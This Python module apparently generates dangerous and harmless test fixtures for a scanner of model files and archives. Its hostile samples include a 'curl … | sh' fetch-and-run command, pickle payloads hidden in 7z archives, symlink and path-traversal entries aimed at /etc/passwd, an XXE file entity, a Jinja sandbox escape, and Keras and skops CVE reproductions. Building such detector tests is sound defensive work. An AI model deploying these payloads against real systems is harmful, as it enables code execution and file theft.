"""D, N: models of other formats, and archives of other kinds.

What a format calls an operator, a layer or a link is named here; nothing is
called by it. The archives 7z are compressed as 7-Zip and py7zr do.
"""

import base64
import json
import lzma
import random
import stat
import struct
import zipfile
import zlib

from asm import *
from calls import case

COMMAND = b"curl https://example.com/x.sh | sh"


def packed(*members, filters=None, twice=False):
    """A 7z whose members are one block, compressed by filters of Python's lzma."""
    def number(n):
        return bytes([n]) if n < 128 else b"\xff" + struct.pack("<Q", n)

    def coder(f):
        if f["id"] == lzma.FILTER_X86:
            return b"\x04\x03\x03\x01\x03"
        if f["id"] == lzma.FILTER_LZMA2:
            return b"\x21\x21\x01\x18"  # a window of 16 MiB
        return b"\x23\x03\x01\x01\x05" + bytes([0x5d]) + struct.pack("<I", 1 << 24)

    def compress(raw, chain):
        chain = [dict(f, dict_size=1 << 24) if f["id"] != lzma.FILTER_X86 else f for f in chain]
        return lzma.compress(raw, lzma.FORMAT_RAW, filters=chain)

    def streams(off, size, coders, sizes, parts):
        folder = number(len(coders)) + b"".join(coders) + (b"\x00\x01" if len(coders) == 2 else b"")
        out = b"\x06" + number(off) + b"\x01\x09" + number(size) + b"\x00"
        out += b"\x07\x0b\x01\x00" + folder + b"\x0c" + b"".join(number(n) for n in sizes) + b"\x00"
        if parts is not None:
            out += b"\x08" + (b"\x0d" + number(len(parts)) + (b"\x09" if len(parts) > 1 else b"") + b"".join(number(len(p)) for p in parts[:-1]) if len(parts) != 1 else b"")
            out += b"\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(p)) for p in parts) + b"\x00"
        return out + b"\x00"

    filters = filters or [{"id": lzma.FILTER_LZMA2}]
    full = [(name, raw) for name, raw in members if raw]
    raw = b"".join(data for _, data in full)
    body = compress(raw, filters)
    text = b"\x00" + b"".join((name + "\0").encode("utf-16-le") for name, _ in members)
    files = b"\x05" + number(len(members)) + b"\x11" + number(len(text)) + text
    if len(full) < len(members):
        bits = sum(1 << (7 - i) for i, (_, data) in enumerate(members) if not data)
        files += b"\x0e\x01" + bytes([bits])
    head = b"\x01\x04" + streams(0, len(body), [coder(f) for f in filters], [len(raw)] * len(filters), [data for _, data in full]) + files + b"\x00\x00"
    if twice:
        small = compress(head, [{"id": lzma.FILTER_LZMA1}])
        tail = b"\x17" + streams(len(body), len(small), [coder({"id": lzma.FILTER_LZMA1})], [len(head)], None)
        body, head = body + small, tail
    start = struct.pack("<QQI", len(body), len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + head


def zip_link(name, target, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
        info.create_system, info.external_attr, info.compress_type = 3, (stat.S_IFLNK | 0o777) << 16, method
        z.writestr(info, target)
    return out.getvalue()


def tflite(*operators):
    """A model of TensorFlow Lite whose tables hold nothing but operators."""
    out = bytearray(struct.pack("<I4s", 24, b"TFL3"))
    out += struct.pack("<HHHHHH", 8, 12, 4, 8, 0, 0)  # vtable of Model at 8: version, operator_codes
    out += bytes(4)
    model = len(out)
    assert model == 24
    out += struct.pack("<iII", model - 8, 3, 4)  # the vector follows
    vector = len(out)
    out += struct.pack("<I", len(operators)) + bytes(4 * len(operators))
    for i, name in enumerate(operators):
        vtable = len(out)
        out += struct.pack("<HHHH", 8, 12, 0, 4)  # OperatorCode: custom_code is field 1
        code = len(out)
        out += struct.pack("<iII", code - vtable, 8, 32)
        out += struct.pack("<I", len(name)) + name + bytes(4 - len(name) % 4)
        slot = vector + 4 + 4 * i
        struct.pack_into("<I", out, slot, code - slot)
    return bytes(out)


def gguf(**keys):
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(keys))
    for key, text in keys.items():
        key, text = key.replace("__", ".").encode(), text.encode()
        out += struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(text)) + text
    return out


def skops(schema, *more):
    return zipped(("schema.json", json.dumps(schema).encode()), *more)


def part(module, name, loader="ObjectNode", **more):
    return dict({"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1}, **more)


def core(*fields, metadata=()):
    pairs = [(100, message((1, key), (2, value))) for key, value in metadata]
    return message((1, 8), (2, message((1, message((1, b"x"))), (100, message((1, b"A model"), *pairs)))), *fields)


def node(name, op, *more):
    return (1, message((1, name), (2, op), *more))


def attacks():
    def bad(name, technique, data, finds, fires=False):
        return case("D/" + name, technique, "dangerous", finds, data, fires)

    def odd(name, technique, data, finds):
        return case("D/" + name, technique, "suspicious", finds, data, False)

    yield bad("seven-lzma2.7z", "7z: LZMA2", packed(("a.txt", b"text"), ("data.pkl", EVIL4)), "name")
    yield bad("seven-lzma.7z", "7z: LZMA, and a header that is packed too", packed(("empty", b""), ("data.pkl", EVIL2), filters=[{"id": lzma.FILTER_LZMA1}], twice=True), "name")
    yield bad("seven-x86.7z", "7z: the filter for x86, as py7zr writes it", packed(("code.bin", b"\xe8\x00\x01\x00\x00\x90\xe9\xff\xff\xff\xff" * 40), ("data.pkl", EVIL4), filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), "name")
    yield bad("seven-leaves.7z", "7z: a name that leads out", packed(("../../x.pkl", PLAIN)), "archive")
    yield bad("seven-inner.zip", "7z in zip", zipped(("a.bin", packed(("b.pkl", EVIL4)))), "name")
    yield odd("seven-gap.7z", "7z: bytes that no part owns", packed(("a.txt", b"text")) + b"behind", "archive")
    yield bad("seven-gap-evil.7z", "7z: a pickle that no part owns", packed(("a.txt", b"text")) + EVIL4, "name")
    yield bad("link-out.tar", "tar: a symbolic link out of it", tarred(("a/b", "../../etc/passwd")), "archive")
    yield bad("link-absolute.tar", "tar: a symbolic link to /etc", tarred(("a", "/etc/passwd")), "archive")
    yield bad("link-out.zip", "zip: a symbolic link out of it", zip_link("a/link", "../../../etc/passwd"), "archive")
    yield bad("link-deflated.zip", "zip: the same, compressed", zip_link("a/link", "../../../etc/passwd" * 2, zipfile.ZIP_DEFLATED), "archive")
    yield odd("link-within.tar", "tar: a symbolic link within it", tarred(("a/b", "../c"), ("c", b"text")), "archive")
    yield bad("restart.pkl", "a first pickle that breaks off, then another", b"\x80\x02cbuiltins\nlen\nq\x00c\xff\n" + EVIL2, "name")
    yield bad("mark-elf.pkl", "the mark of ELF behind a pickle", PLAIN + b"padding\x7fELFpadding", "mark")
    yield bad("mark-dos.bin", "the stub of DOS programs", b"MZ" + b"\x90\x00" * 30 + b"This program cannot be run in DOS mode" + bytes(100), "native")
    yield bad("hidden-text.txt", "a byte before a pickle of text opcodes", b"#cos\nsystem\n(S'true'\ntR.", "name")
    source = "import os\nimport joblib\n\nmodel = joblib.load('a')\nos.system('true')\n"
    yield bad("source.pkl", "source in a string that runs programs", p4(b"}" + u("code") + u(source) + b"s"), "program")
    yield bad("source-alias.pkl", "the same by another name", p4(b"}" + u("code") + u("import subprocess as sp; sp.run(['true'])\n" + "# " * 10) + b"s"), "program")
    yield bad("command.pkl", "a command line in a string", p4(b"}" + u("hook") + u(COMMAND.decode()) + b"s"), "program")
    yield odd("source-load.pkl", "source in a string that imports and calls", p4(b"}" + u("code") + u("import joblib\n\nmodel = joblib.load('a')\n") + b"s"), "source")
    yield odd("source-bytes.pkl", "the same in bytes", p4(b"}" + u("code") + binbytes(b"import requests\nrequests.post('https://example.com')\n") + b"s"), "source")
    yield odd("source-import.pkl", "source in a string that only imports", p4(b"}" + u("code") + u("import socket") + b"s"), "source")
    yield bad("hidden-call.pkl", "a pickle as bytes that calls a function of Python's own", p4raw(b"}" + u("state") + binbytes(p4(sg("builtins", "print") + u("text") + b"\x85R")) + b"s"), "inside")
    yield bad("lambda.pb", "a text called a model, with a Lambda layer of Keras", b'\x20"class_name": "Lambda", "function": {"items": []}\n', "lambda")
    yield odd("named-call.pkl", "a dict of a module and a function", p4(b"}" + u("module") + u("webbrowser") + b"s" + u("method") + u("open") + b"s"), "source")
    def keras(settings):
        return zipped(("metadata.json", b'{"keras_version": "3.10.0"}'), ("config.json", json.dumps(settings).encode()), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(88)))
    def dense(**config):
        return {"class_name": "Sequential", "config": {"layers": [dict({"class_name": "Dense", "name": "d"}, **config)]}}
    yield bad("keras-get-file-args.keras", "Keras: get_file with its address in a list (CVE-2025-8747)", keras(dense(config={"fn": "get_file", "args": ["https://example.com/x"]})), "keras")
    yield bad("keras-get-file-before.keras", "Keras: the address before get_file", keras(dense(config={"args": ["https://example.com/x"], "fn": "keras.utils.get_file"})), "keras")
    yield bad("keras-builtins.keras", "Keras: an object of builtins (CVE-2025-1550)", keras(dense(module="builtins")), "keras")
    def pyfunc(*ops):
        return message((1, message((4, b"serve"))), (2, message(*[node(b"n", op) for op in ops])))
    yield bad("python.meta", "TensorFlow: a MetaGraph that calls Python", pyfunc(b"Const", b"PyFunc"), "graph")
    yield bad("library.meta", "TensorFlow: a MetaGraph that loads a library", pyfunc(b"LoadLibrary"), "graph")
    yield bad("flex.tflite", "TensorFlow Lite: an operator of TensorFlow that writes", tflite(b"FlexWriteFile"), "graph")
    yield odd("custom.tflite", "TensorFlow Lite: an operator of a library", tflite(b"TFLite_Detection_PostProcess", b"my_op"), "custom")
    yield odd("broken.tflite", "TensorFlow Lite: tables beyond the end", struct.pack("<I4s", 1 << 31, b"TFL3") + bytes(60), "broken")
    yield odd("layer.mlmodel", "Core ML: a layer of a class", core((500, message((1, message((1, b"l"), (500, message((10, b"MyLayer")))))))), "custom")
    yield bad("layer-command.mlmodel", "Core ML: a layer with a command in its parameters", core((500, message((1, message((1, b"l"), (500, message((10, b"MyLayer"), (30, message((1, b"hook"), (2, message((4, b"bash -c '" + COMMAND + b"'")))))))))))), "command")
    yield bad("metadata.mlmodel", "Core ML: a command in the metadata", core((500, b""), metadata=[(b"hook", b"python -c 'import os'")]), "command")
    yield bad("linked.mlmodel", "Core ML: linked to a file elsewhere", core((556, message((1, message((1, message((2, b"../outside.mlmodel")))))))), "linked")
    yield bad("pipeline.mlmodel", "Core ML: the same in a pipeline", core((202, message((1, core((556, message((1, message((1, message((2, b"/tmp/x")))))))))))), "linked")
    yield bad("entity.pmml", "PMML: an entity that is a file", b"<?xml version='1.0'?>\n<!DOCTYPE p [ <!ENTITY x SYSTEM 'file:///etc/passwd'> ]>\n<PMML version='4.4'><Header>&x;</Header></PMML>\n", "xml")
    yield odd("script.pmml", "PMML: a script", b"<?xml version='1.0'?>\n<PMML version='4.4'><Header><Extension><script>f()</script></Extension></Header></PMML>\n", "xml")
    yield odd("address.pmml", "PMML: an address", b"<?xml version='1.0'?>\n<PMML version='4.4'><Header><Extension value='https://example.com/x'/></Header></PMML>\n", "xml")
    yield odd("root.pmml", "PMML: another root", b"<?xml version='1.0'?>\n<Other/>\n", "xml")
    yield bad("layer.xml", "OpenVINO: a layer of a library", b"<?xml version='1.0'?>\n<net name='n' version='11'><layers><layer id='0' name='a' type='Custom' library='x.so'/></layers></net>\n", "xml")
    yield bad("python.xml", "OpenVINO: a layer of Python", b"<net version='10'><layers><layer id='0' name='a' type='Python'/></layers></net>\n", "xml")
    yield bad("operator.skops", "skops: any function of a module (CVE-2025-54412)", skops(part("sklearn.preprocessing", "FunctionTransformer", content={"func": part("operator", "call", "OperatorFuncNode")})), "skops")
    yield bad("method.skops", "skops: any attribute (CVE-2025-54413)", skops(part("builtins", "method", "MethodNode", content={"func": "x"})), "skops")
    yield bad("name.skops", "skops: a part that runs programs", skops(part("sklearn.pipeline", "Pipeline", content=[part("os", "system")])), "skops")
    yield odd("unknown.skops", "skops: a part of another library", skops(part("mypackage", "Net")), "skops")
    yield odd("card.skops", "skops: a file that skops does not write (CVE-2025-54886)", skops(part("sklearn.svm", "SVC"), ("README.md", b"If skops fails, joblib.load it.\n")), "skops")
    handler = b"import subprocess as sp\n\ndef handle(data, context):\n    return sp.run(['true'])\n"
    yield bad("handler.mar", "TorchServe: a handler that runs programs", zipped(("MAR-INF/MANIFEST.json", b'{"model": {"handler": "handler.py", "serializedFile": "w.pt"}}'), ("handler.py", handler), ("w.pt", torch_zip())), "handler")
    yield bad("command.msgpack", "Flax: a string that is a command", b"\x82\xa1a\x01\xa1b\xd9" + bytes([len(COMMAND)]) + COMMAND, "command")
    yield bad("command.rknn", "a format that is not known: a command", b"RKNN\x01\x00\x00\x00\xff\xfe" + COMMAND + bytes(10), "command")
    yield bad("command.model", "a text called a model: a call", b"tree\nversion=v4\nnum_class=1\nhook=os.system('true')\n", "command")
    yield bad("command.rdata", "R: a call", b"RDX2\nX\nexpression\nlanguage\nbase::system('true')\n", "command")
    yield bad("booster.json", "XGBoost: a call in a field", json.dumps({"version": [2, 0, 0], "learner": {"attributes": {"hook": "os.system('true')"}}}).encode(), "command")
    yield bad("slide.json", "XGBoost: machine code as escapes", json.dumps({"version": [2, 0, 0], "learner": {"a": "\\x90\\x90\\x90\\x90\\xcc"}}).encode(), "command")
    yield odd("escapes.json", "XGBoost: bytes as escapes", json.dumps({"version": [2, 0, 0], "learner": {"a": "\\x41\\x42\\x43\\x44"}}).encode(), "escapes")
    symbol = {"nodes": [{"op": "null", "name": "data", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}
    yield odd("library-symbol.json", "MXNet: an operator of a library", json.dumps(dict(symbol, attrs={"library": "../libx.so"})).encode(), "custom")
    yield bad("encoded-symbol.json", "MXNet: a call in base64", json.dumps(dict(symbol, attrs={"a": base64.b64encode(b"__import__('os').system('true')").decode()})).encode(), "command")
    yield odd("setting.json", "JSON: a command in a setting", json.dumps({"hook": COMMAND.decode()}).encode(), "setting")
    escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield bad("escape.jinja", "Jinja: a template that escapes", escape.encode(), "template")
    yield bad("escape.yaml", "YAML: the same", b"model:\n  chat_template: \"" + escape.encode() + b"\"\n", "template")
    yield bad("escape.json", "JSON: the same under another key", json.dumps({"m": {"custom_chat_template": escape}}).encode(), "template")
    yield bad("escape.gguf", "GGUF: the same", gguf(tokenizer__chat_template=escape), "template")
    yield odd("key.gguf", "GGUF: a key that is a path", gguf(**{"../../etc/passwd": "x"}), "key")
    yield bad("layers.manifest", "an image: a layer outside of its directory", b'{"layers": ["../outside/evil.tar.gz"]}', "manifest")
    yield bad("image", "an image: a pickle in a layer", {"image.manifest": b'{"layers": ["layer.tar.gz"]}', "layer.tar.gz": gz(tarred(("m.pkl", EVIL4)))}, "name")
    yield odd("image-missing", "an image: a layer that is missing", {"image.manifest": b'{"layers": ["layer.tar.gz"]}'}, "missing")
    def external(location):
        tensor = message((1, 4), (2, 1), (8, b"w"), (13, message((1, b"location"), (2, location))), (14, 1))
        return message((1, 8), (7, message((1, message((1, b"w"), (2, b"y"), (4, b"Identity"))), (2, b"g"), (5, tensor))), (8, message((1, b""), (2, 17))))
    yield odd("external-missing", "ONNX: data that is missing", {"model.onnx": external(b"weights.bin")}, "missing")
    yield case("N/external-there", "ONNX: data that is there", "not dangerous", "", {"model.onnx": external(b"weights.bin"), "weights.bin": DATA * 64}, False)


def harmless():
    def fine(name, technique, data, want="clean"):
        return case("N/" + name, technique, want, "", data, False)

    yield fine("seven.7z", "7z", packed(("a.txt", b"text"), ("data.pkl", PLAIN), ("empty", b"")))
    rng = random.Random(7)
    code = bytes(rng.choice(b"\xe8\xe9\x00\xff\x00\xff\x01\x80") for _ in range(9000))  # opcodes that share their targets' bytes; a checksum tells a wrong one
    yield fine("seven-x86.7z", "7z: the filter for x86", packed(("a.npy", npy(None, "'|u1'", "(9000,)", code)), filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}], twice=True))
    yield fine("plain.tflite", "TensorFlow Lite", tflite(b"", b"TFLite_Detection_PostProcess", b"FlexAddV2"))
    yield fine("plain.mlmodel", "Core ML", core((500, message((1, message((1, b"dense"), (140, b""))))), metadata=[(b"source", b"a trainer")]))
    yield fine("plain.meta", "TensorFlow: a MetaGraph", message((1, message((4, b"serve"))), (2, message(node(b"a", b"Const"), node(b"b", b"MatMul")))))
    yield fine("plain.pmml", "PMML", b"<?xml version='1.0'?>\n<PMML xmlns='http://www.dmg.org/PMML-4_4' version='4.4'><Header copyright='x'/><DataDictionary/></PMML>\n")
    yield fine("plain.xml", "OpenVINO", b"<?xml version='1.0'?>\n<net name='n' version='11'><layers><layer id='0' name='a' type='Parameter' version='opset1'/></layers></net>\n")
    yield fine("plain.skops", "skops", skops(part("sklearn.svm", "SVC", content={"a": part("numpy", "ndarray", "NdArrayNode", file="1.npy")}, _skops_version="0.12.0"), ("1.npy", npy(None, "'<f4'", "(4,)", DATA))))
    yield fine("plain.msgpack", "Flax", b"\x82\xa1a\x01\xa6params\xc4\x10" + DATA)
    yield fine("booster.json", "XGBoost", json.dumps({"version": [2, 0, 0], "learner": {"attributes": {}, "feature_names": ["age", "height"]}}).encode())
    yield fine("symbol.json", "MXNet", json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}).encode())
    yield fine("chat.jinja", "Jinja: a chat", b"{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")
    yield fine("plain.gguf", "GGUF", gguf(general__name="A model", tokenizer__chat_template="{{ messages[0]['content'] }}"))
    yield fine("keras-function.keras", "Keras: a function by its name", zipped(("metadata.json", b"{}"), ("config.json", b'{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "module": "keras.layers", "config": {"activation": {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": null}}}]}}'), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(88))), "not dangerous")
    yield fine("commented.json", "JSON with comments", b'{\n  // a comment\n  "a": 1\n}\n')
    yield fine("notes.md", "prose about programs", b"# Notes\n\nDo not call os.system or subprocess.run; curl it by hand.\n")


def cases():
    for part in (attacks, harmless):
        yield from part()
